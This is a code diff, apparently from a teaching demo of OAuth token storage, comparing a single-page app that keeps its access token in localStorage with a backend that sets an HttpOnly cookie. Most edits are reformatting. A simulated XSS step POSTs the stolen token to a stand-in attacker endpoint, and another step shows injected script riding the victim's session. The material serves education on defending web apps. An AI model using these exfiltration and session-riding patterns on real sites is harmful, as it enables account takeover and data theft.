@@ -28,29 +28,75 @@ export function browserPage(): PageEnv | undefined {
 }
 
 /** The SPA redeems the code itself (public client `spa`) and keeps the token where its scripts can reach it: localStorage. */
-export async function spaRedeemsAndStores(step: string, env: PageEnv, realm: RealmDescriptor, tokenEndpoint: string, p: { code: string; redirectUri: string; verifier: string }): Promise<StepOutput<TokenSet>> {
+export async function spaRedeemsAndStores(
+  step: string,
+  env: PageEnv,
+  realm: RealmDescriptor,
+  tokenEndpoint: string,
+  p: { code: string; redirectUri: string; verifier: string },
+): Promise<StepOutput<TokenSet>> {
   try {
-    const request = authorizationCodeRequest(tokenEndpoint, { clientId: 'spa', method: 'none' }, { code: p.code, redirectUri: p.redirectUri, codeVerifier: p.verifier });
+    const request = authorizationCodeRequest(
+      tokenEndpoint,
+      { clientId: 'spa', method: 'none' },
+      { code: p.code, redirectUri: p.redirectUri, codeVerifier: p.verifier },
+    );
     const { exchange, response, body } = await recordFetch(request, { step, from: 'client', to: 'as' });
     const tokens = processTokenResponse(response.status, body);
     if (!tokens.ok) return { step, exchanges: [exchange], result: tokens };
     env.storage.setItem(storageKey(realm), JSON.stringify({ access_token: tokens.value.access_token }));
-    return { step, exchanges: [exchange], facts: [{ label: `localStorage["${storageKey(realm)}"]`, value: 'the access token (any script on the page can read it)' }], result: ok(tokens.value) };
+    return {
+      step,
+      exchanges: [exchange],
+      facts: [{ label: `localStorage["${storageKey(realm)}"]`, value: 'the access token (any script on the page can read it)' }],
+      result: ok(tokens.value),
+    };
   } catch (e) {
     return networkFailure(step, e);
   }
 }
 
 /** The page hands the one-time code to its backend, which redeems it and answers with an HttpOnly session cookie. */
-export async function handToBackend(step: string, origin: string, realm: RealmDescriptor, p: { code: string; redirectUri: string; verifier: string }): Promise<StepOutput<boolean>> {
+export async function handToBackend(
+  step: string,
+  origin: string,
+  realm: RealmDescriptor,
+  p: { code: string; redirectUri: string; verifier: string },
+): Promise<StepOutput<boolean>> {
   try {
     const body = new URLSearchParams({ code: p.code, code_verifier: p.verifier, redirect_uri: p.redirectUri });
-    const request = new Request(`${origin}/bff/${encodeURIComponent(realm.id)}/session`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body, credentials: 'same-origin' });
+    const request = new Request(`${origin}/bff/${encodeURIComponent(realm.id)}/session`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body,
+      credentials: 'same-origin',
+    });
     const { exchange, response, body: answer } = await recordFetch(request, { step, from: 'browser', to: 'client' });
     if (response.status !== 201) {
-      return { step, exchanges: [exchange], result: { ok: false, error: { code: 'bff_refused', message: `The backend could not sign Alice in: HTTP ${response.status} ${answer.slice(0, 200)}`, where: step } } };
+      return {
+        step,
+        exchanges: [exchange],
+        result: {
+          ok: false,
+          error: {
+            code: 'bff_refused',
+            message: `The backend could not sign Alice in: HTTP ${response.status} ${answer.slice(0, 200)}`,
+            where: step,
+          },
+        },
+      };
     }
-    return { step, exchanges: [exchange], facts: [{ label: 'what the page received', value: `${answer} and an HttpOnly cookie (scripts see neither the cookie nor its Set-Cookie header)` }], result: ok(true) };
+    return {
+      step,
+      exchanges: [exchange],
+      facts: [
+        {
+          label: 'what the page received',
+          value: `${answer} and an HttpOnly cookie (scripts see neither the cookie nor its Set-Cookie header)`,
+        },
+      ],
+      result: ok(true),
+    };
   } catch (e) {
     return networkFailure(step, e);
   }
@@ -84,7 +130,11 @@ export async function xssPayload(step: string, env: PageEnv, origin: string, rea
   ];
   if (!token) return { step, exchanges: [], facts, result: ok({}) };
   try {
-    const request = new Request(`${origin}${attackerUrl(realm, 'xss')}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ access_token: token, source: 'localStorage' }) });
+    const request = new Request(`${origin}${attackerUrl(realm, 'xss')}`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: new URLSearchParams({ access_token: token, source: 'localStorage' }),
+    });
     const { exchange } = await recordFetch(request, { step, from: 'browser', to: 'attacker' });
     return { step, exchanges: [exchange], facts, result: ok({ token, where: 'localStorage' }) };
   } catch (e) {
@@ -93,9 +143,16 @@ export async function xssPayload(step: string, env: PageEnv, origin: string, rea
 }
 
 /** What an HttpOnly cookie does not stop: the payload asks the backend for the photos, and the browser attaches Alice's cookie. */
-export async function payloadRidesSession(step: string, origin: string, realm: RealmDescriptor): Promise<StepOutput<{ status: number; owner?: string }>> {
+export async function payloadRidesSession(
+  step: string,
+  origin: string,
+  realm: RealmDescriptor,
+): Promise<StepOutput<{ status: number; owner?: string }>> {
   try {
-    const request = new Request(`${origin}/bff/${encodeURIComponent(realm.id)}/photos`, { headers: { accept: 'application/json' }, credentials: 'same-origin' });
+    const request = new Request(`${origin}/bff/${encodeURIComponent(realm.id)}/photos`, {
+      headers: { accept: 'application/json' },
+      credentials: 'same-origin',
+    });
     const { exchange, response, body } = await recordFetch(request, { step, from: 'browser', to: 'client' });
     let owner: string | undefined;
     try {
@@ -104,7 +161,12 @@ export async function payloadRidesSession(step: string, origin: string, realm: R
     } catch {
       owner = undefined;
     }
-    return { step, exchanges: [exchange], facts: [{ label: 'the backend answered', value: `HTTP ${response.status}${owner ? `, the photos of ${owner}` : ''}` }], result: ok({ status: response.status, owner }) };
+    return {
+      step,
+      exchanges: [exchange],
+      facts: [{ label: 'the backend answered', value: `HTTP ${response.status}${owner ? `, the photos of ${owner}` : ''}` }],
+      result: ok({ status: response.status, owner }),
+    };
   } catch (e) {
     return networkFailure(step, e);
   }
